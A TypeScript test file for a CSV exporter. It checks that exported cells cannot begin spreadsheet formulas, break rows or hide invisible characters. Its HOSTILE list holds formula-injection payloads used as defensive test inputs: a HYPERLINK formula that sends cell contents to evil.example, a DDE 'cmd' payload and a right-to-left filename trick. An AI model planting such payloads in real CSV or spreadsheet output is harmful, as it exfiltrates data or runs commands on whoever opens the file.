import { spawnSync } from 'node:child_process';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { cell } from './csv-cell.ts';
import { HOST_COLUMNS, time } from './csv-columns.ts';
import { csv } from './csv.ts';
import { headOf, hostRow, written } from './testing/source.ts';

/** What somebody else's reader makes of it: Python's, which is strict here. */
const READER = `import csv, io, json, sys
text = sys.stdin.buffer.read().decode('utf-8-sig')
print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True, delimiter=sys.argv[1]))))`;
const python = (text: string, delimiter = ',') =>
  spawnSync('python3', ['-c', READER, delimiter], { input: text, maxBuffer: 256 * 1024 * 1024 });
const hasPython = python('a').status === 0;
const read = (text: string, delimiter = ','): readonly (readonly string[])[] => {
  const { status, stdout, stderr } = python(text, delimiter);
  if (status !== 0) throw new Error(stderr.toString());
  return z.array(z.array(z.string())).parse(JSON.parse(stdout.toString('utf8')));
};
const rowsOf = (table: readonly (readonly string[])[]): readonly (readonly string[])[] =>
  table.filter(([first]) => first?.startsWith('# ') !== true).slice(1);
const STARTS_AS_FORMULA = /^\s*[=+\-@＝＋－＠]/u;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r\n=1+1',
  ' =1+1',
  '"=1+1"',
  '＝1+1',
  'two\nlines\r\nand a third',
  'a;=1+1',
  'a;"=1+1',
  'a,"',
  ',"=1+1,"',
  '"',
  '\u202Egnp.exe',
  'nul\0here',
  '\uD800 alone, \uDC00 too',
  '\uFEFFmark',
  '\u2028separator',
  'x'.repeat(10_000),
  '=\n'.repeat(5_000),
  '# no head',
  '',
  'Zürich, "the" hall',
] as const;
const hostile = HOSTILE.map((name, at) => hostRow({ id: `dc/${at}`, name, reason: name, endpoint: name, hostClass: name }));

describe('a moment', () => {
  it('is written as ISO 8601 in UTC writes it', () => {
    fc.assert(
      fc.property(fc.integer({ min: -62_167_219_200_000, max: 8_640_000_000_000_000 }), (atMs) => {
        expect(time(atMs)).toBe(new Date(atMs).toISOString());
        expect(time(atMs + 1 > 8_640_000_000_000_000 ? atMs : atMs + 1)).toMatch(/Z$/u);
      }),
    );
    expect(time(null)).toBe('');
  });
});

describe('a cell', () => {
  it('is text as it is where nothing is wrong with it', () => {
    for (const text of ['ber1-web-1', 'Every link is true.', 'Zürich', '10.0.0.1:9002', '9', 'a/b']) expect(cell(text)).toBe(text);
    expect(cell(null)).toBe('');
  });

  it.each(HOSTILE.map((text) => [JSON.stringify(text).slice(0, 40), text] as const))(
    'of %s begins no formula and is one line',
    (_, text) => {
      const said = cell(text);
      expect(/[\r\n\t\0]/u.test(said)).toBe(false);
      expect(said.replace(/^"/u, '').slice(0, 40)).not.toMatch(STARTS_AS_FORMULA);
    },
  );

  it('shows what cannot be seen', () => {
    expect(cell('nul\0here')).toBe('nul\\x00here');
    expect(cell('\u202Egnp.exe')).toBe('\\u{202e}gnp.exe');
    expect(cell('\uD800')).toBe('\\u{d800}');
  });

  it('is cut where a spreadsheet would cut it, and says so', () => {
    expect(cell('y'.repeat(40_000)) === `${'y'.repeat(32_000)}… (40000 characters)`).toBe(true);
  });
});

describe.skipIf(!hasPython)(`CSV as another reader reads it${hasPython ? '' : ' (needs python3)'}`, () => {
  it('has one line for each host, whatever hosts are called', async () => {
    const table = read(await written(csv, { of: 'hosts', each: hostile }));
    const rows = rowsOf(table);
    expect(rows.map(([id]) => id)).toEqual(hostile.map(({ id }) => id));
    expect(rows.every((row) => row.length === HOST_COLUMNS.length)).toBe(true);
    expect(rows.flat().filter((text) => STARTS_AS_FORMULA.test(text))).toEqual([]);
    expect(rows.at(-1)?.[1]).toBe('Zürich, "the" hall');
  });

  it('begins no formula where a spreadsheet splits at semicolons, either', async () => {
    const table = read((await written(csv, { of: 'hosts', each: hostile })).replaceAll('"', ''), ';');
    expect(table.flat().filter((text) => STARTS_AS_FORMULA.test(text))).toEqual([]);
  });

  it('has a head of which each line is one cell, whatever was asked', async () => {
    const query = 'name = "a,\\"" or site = "x,=1" or site = "b,"\n=1';
    const table = read(await written(csv, { of: 'hosts', each: [] }, headOf({ query, notRecorded: ['=dc', 'a,"b'] })));
    const head = table.slice(0, -1);
    expect(head.every((line) => line.length === 1 && line[0]?.startsWith('# ') === true)).toBe(true);
    expect(head.flat()).toContain(`# query: ${query.replace('\n', '\\x0a')}`);
    expect(table.at(-1)).toEqual(HOST_COLUMNS.map(([name]) => name));
  });

  it('keeps row and cell apart for any text', async () => {
    const any = fc.string({ unit: 'binary' });
    const marks = fc.string({ unit: fc.constantFrom('=', '"', ',', ';', '\n', '\r', ' ', 'a', '\u0000', '\uD800', '-', '＝') });
    const texts = fc.sample(fc.tuple(any, marks), 1_000);
    const each = texts.map(([name, reason], at) => hostRow({ id: `dc/${at}`, name, reason }));
    const rows = rowsOf(read(await written(csv, { of: 'hosts', each })));
    expect(rows.map(([id]) => id)).toEqual(each.map(({ id }) => id));
    expect(rows.flat().filter((text) => STARTS_AS_FORMULA.test(text))).toEqual([]);
  });
});

describe('the head of a CSV', () => {
  it('says what was asked, by whom, of which moment, by which version, and that data is simulated', async () => {
    const text = await written(csv, { of: 'hosts', each: [] }, headOf({ demo: { hosts: 5 }, count: 7 }));
    for (const line of [
      '# Plumbline: 1.2.3',
      '# rows: Hosts: 7',
      '# query: verdict = failed',
      '# cut-off: 2027-01-15T08:00:00.000Z',
      '# time zone: UTC',
      '# exported by: ann (os-user)',
    ])
      expect(text.slice(1).split('\r\n')).toContain(line);
    expect(text).toContain('# DEMO DATA: contains simulated hosts');
    expect(text.startsWith('\uFEFF# ')).toBe(true);
  });
});
